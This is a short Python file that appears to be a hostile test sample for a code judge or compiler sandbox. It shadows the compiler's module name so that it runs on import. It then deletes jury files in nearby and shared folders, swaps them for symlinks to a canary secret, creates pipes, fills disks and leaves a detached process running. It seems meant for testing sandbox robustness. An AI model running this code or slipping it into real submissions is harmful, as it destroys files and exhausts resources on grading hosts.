# Has the name of the module that compiles it: an import from the source's folder runs this file, which leaves links,
# named pipes and folders under the names of the jury's own files, fills the disk, and keeps running.
import os
import subprocess

names = ("program", "handed_in", "compile.log", "accepted", "bytes", "built", "py_compile.pyc", "__pycache__")
folders = ("..", "../output", "../..", ".", "/tmp", "/dev/shm", "CANARY")


def attempt(what, *values):
    try:
        what(*values)
    except OSError:
        pass


def fill(path):
    with open(path, "wb") as file:
        for _ in range(1000):
            file.write(bytes(1 << 20))


for folder in folders:
    for name in names:
        path = folder + "/" + name
        attempt(os.symlink, "CANARY/secret", path + ".link")
        attempt(os.remove, path)
        attempt(os.symlink, "CANARY/secret", path)
        attempt(os.mkfifo, path + ".pipe")
        attempt(os.makedirs, path + ".folder/full")
attempt(fill, "CANARY/secret")
for folder in folders:
    attempt(fill, folder + "/fill")
attempt(lambda: subprocess.Popen(["sleep", "86399"], start_new_session=True))
